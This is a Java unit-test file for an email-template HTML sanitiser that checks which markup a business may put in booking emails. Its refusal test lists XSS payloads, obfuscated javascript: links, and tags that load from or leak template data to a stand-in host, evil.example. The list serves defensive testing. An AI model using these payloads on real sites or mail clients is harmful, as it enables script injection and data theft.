package io.thermae.engagement.template;

import static org.assertj.core.api.Assertions.assertThat;

import io.thermae.kernel.FieldViolation;
import io.thermae.kernel.Language;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a business may show in its mails, and what must not be in them. */
class TemplateHtmlTest {

    private static final String LINK = "{{manageLink}}";

    private static List<String> ofHtml(String html) {
        MessageForm placed = MessageForm.find("booking-placed-client", "EMAIL").orElseThrow();
        OwnSource source = new OwnSource("x", LINK, html + "<p>" + LINK + "</p>");
        return new TemplatePolicy(placed, Language.RU)
                .violations(source).stream()
                        .map((FieldViolation violation) -> violation.field() + " " + violation.code())
                        .toList();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<ScRiPt src='https://evil.example/x.js'></ScRiPt>",
                "<p onclick=\"alert(1)\">x</p>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\" java\tscript:alert(1)\">x</a>",
                "<a href=\"&#106;avascript:alert(1)\">x</a>",
                "<a href=\"data:text/html,x\">x</a>",
                "<a href=\"//evil.example\">x</a>",
                "<a href=\"/relative\">x</a>",
                "<a href=\"https://evil.example/{{manageLink}}\">x</a>",
                "<a href=\"{{reader}}\">x</a>",
                "<a href=\"{{manageLink}}{{reader}}\">x</a>",
                "<a href={{manageLink}}>x</a>",
                "<img src=\"https://evil.example/{{reader}}\">",
                "<img src=\"{{manageLink}}\">",
                "<img src=\"http://evil.example/x.png\">",
                "<img src=\"https://evil.example/{{#notes}}\"> <i>{{/notes}}{{reader}}\"</i>",
                "<img src=\"https://a.example/x.png\" alt=\"{{reader}}\">",
                "<img src=x onerror=alert(1)>",
                "<p {{#notes}}onclick=\"alert(1)\"{{/notes}}>x</p>",
                "<p title=\"{{reader}}\">x</p>",
                "<{{reader}}>x",
                "<scr{{#notes}}ipt{{/notes}}>x",
                "<form action=\"https://evil.example\"><input name=\"x\"></form>",
                "<iframe src=\"https://evil.example\"></iframe>",
                "<svg><script>alert(1)</script></svg>",
                "<style>p { color: red }</style>",
                "<p style=\"background: url(https://evil.example)\">x</p>",
                "<p style=\"width: expression(alert(1))\">x</p>",
                "<p style=\"position: fixed\">x</p>",
                "<p style=\"color: \\72 ed\">x</p>",
                "<!-- x -->",
                "<!--[if mso]><script>alert(1)</script><![endif]-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?php x ?>",
                "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example\">",
                "<base href=\"https://evil.example\">",
                "<object data=\"https://evil.example\"></object>",
                "</main></body>",
                "<p class=\"x\">x</p>",
                "1 < 2"
            })
    void html_that_does_or_loads_something_is_refused(String html) {
        assertThat(ofHtml(html)).containsExactly("html html_not_allowed");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<h2 style=\"color: #aa3366; text-align: center\">{{business}}</h2>",
                "<a href=\"{{manageLink}}\">x</a>",
                "<a href='https://spa.example/?a=b&amp;c=d' title=\"Spa\">x</a>",
                "<a href=\"mailto:spa@example.com\">x</a><a href=\"tel:+77012345678\">x</a>",
                "<img src=\"https://spa.example/logo.png\" alt=\"Spa\" width=\"100\" height=\"50\">",
                "<table border=\"0\" width=\"100%\"><tr><td style=\"padding:4px\">{{when}}</td></tr></table>",
                "<ul>{{#items}}<li>{{time}}: {{service}}</li>{{/items}}</ul>",
                "{{#notes}}<p class=\"own\">{{notes}}</p>{{/notes}}",
                "1 &lt; 2<br>a > b<hr/>"
            })
    void html_that_says_something_is_taken(String html) {
        assertThat(ofHtml(html)).isEmpty();
    }
}
